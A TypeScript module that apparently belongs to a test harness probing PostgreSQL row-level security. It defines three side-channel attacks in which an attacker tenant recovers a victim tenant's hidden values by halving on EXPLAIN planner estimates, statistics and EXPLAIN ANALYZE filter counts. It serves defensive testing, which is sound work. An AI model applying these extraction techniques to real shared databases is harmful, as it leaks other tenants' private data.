import { type Attack, R, type Stage } from "../attack";
import type { Session } from "../session";

const NUMBER = 31_337_424;
const ROWS = 1500;

/** A table in which the victim's values are frequent, analysed. */
async function visits(s: Stage, ...more: readonly string[]): Promise<{ table: string; accepted: boolean }> {
  const table = `app.${s.fresh("visits")}`;
  const accepted = await s.develop(
    `CREATE TABLE ${table} (tenant_id text, code int, name text)`,
    ...more.map((sql) => sql.replaceAll("%s", table)),
  );
  const [victim, attacker] = [await s.as("victim"), await s.as("attacker")];
  await victim.query(`INSERT INTO ${table} (code, name) SELECT ${NUMBER}, 'jane.doe' FROM generate_series(1, ${ROWS})`);
  await victim.query(
    `INSERT INTO ${table} (code, name) SELECT 1000000 + n, 'p' || n FROM generate_series(1, ${ROWS}) n`,
  );
  await attacker.query(`INSERT INTO ${table} (code, name) SELECT n, 'q' || n FROM generate_series(1, 3000) n`);
  await (await s.as("admin")).query(`ANALYZE ${table}`);
  return { table, accepted };
}

/** Halving: the largest value at which the question still tells of more than its own rows. */
async function halve(tells: (value: number) => Promise<boolean>): Promise<{ value: number; asked: number }> {
  let [low, high, asked] = [-(2 ** 31), 2 ** 31 - 1, 0];
  while (low < high) {
    const middle = Math.floor((low + high + 1) / 2);
    asked += 1;
    if (await tells(middle)) low = middle;
    else high = middle - 1;
  }
  return { value: low, asked };
}

const planned = (attacker: Session, table: string) => async (where: string) => {
  const plan = await attacker.query(`EXPLAIN (FORMAT JSON) SELECT 1 FROM ${table} WHERE ${where}`);
  return Number(/"Plan Rows":(\d+)/.exec(JSON.stringify(plan))?.[1]);
};

/** What the planner and its explanations tell of rows that policies hide. */
export const estimates: readonly Attack[] = [
  {
    id: "estimates_extract",
    title: "A neighbour's frequent values by halving on the planner's estimates",
    strategies: [R],
    catches: ["statistics"],
    run: async (s) => {
      const { table } = await visits(
        s,
        "CREATE STATISTICS app.more_%s (mcv) ON code, name FROM %s".replace("more_%s", s.fresh("more")),
      );
      const attacker = await s.as("attacker");
      const rows = planned(attacker, table);
      const { value, asked } = await halve(async (at) => (await rows(`code >= ${at}`)) > 200);
      if (value === NUMBER) return `${value} after ${asked} EXPLAINs`;
      for (const [seen, other] of [
        [`code = ${NUMBER}`, "code = 4711"],
        [`code = ${NUMBER} AND name = 'jane.doe'`, "code = 4711 AND name = 'nobody'"],
        ["name >= 'jane' AND name < 'jand'", "name >= 'zane' AND name < 'zand'"],
        [`tenant_id = '${s.victim.id}'`, "tenant_id = 'nobody'"],
      ] as const) {
        if ((await rows(seen)) !== (await rows(other))) return `the estimate of ${seen} tells`;
      }
    },
  },
  {
    id: "estimates_expression",
    title: "The same over an index on an expression",
    strategies: [R],
    run: async (s) => {
      const { table } = await visits(s, "CREATE INDEX ON %s (tenant_id, (code % 1000))");
      const rows = planned(await s.as("attacker"), table);
      if ((await rows(`code % 1000 = ${NUMBER % 1000}`)) !== (await rows("code % 1000 = 999")))
        return "the estimate tells";
    },
  },
  {
    id: "explain_analyze",
    title: "A neighbour's rows counted by EXPLAIN ANALYZE over an index that does not begin with the tenant",
    strategies: [R],
    catches: ["index_tenant"],
    run: async (s) => {
      const { table, accepted } = await visits(s, "CREATE INDEX ON %s (code)");
      const attacker = await s.as("attacker");
      await attacker.query("SET enable_seqscan = off; SET enable_bitmapscan = off");
      const { value, asked } = await halve(async (at) => {
        const plan = JSON.stringify(
          await attacker.query(
            `EXPLAIN (ANALYZE, FORMAT JSON) SELECT 1 FROM ${table} WHERE code >= ${at} AND code > 5000`,
          ),
        );
        return Number(/"Rows Removed by Filter":(\d+)/.exec(plan)?.[1] ?? 0) > 0;
      });
      if (value === NUMBER) return `the largest value, ${value}, after ${asked} EXPLAINs`;
      if (accepted) return "the index was accepted";
      for (const sql of [
        `CREATE INDEX ON ${table} USING brin (tenant_id, code)`,
        `CREATE INDEX ON ${table} USING hash (code)`,
      ]) {
        if (await s.develop(sql)) return `accepted: ${sql}`;
      }
    },
  },
];
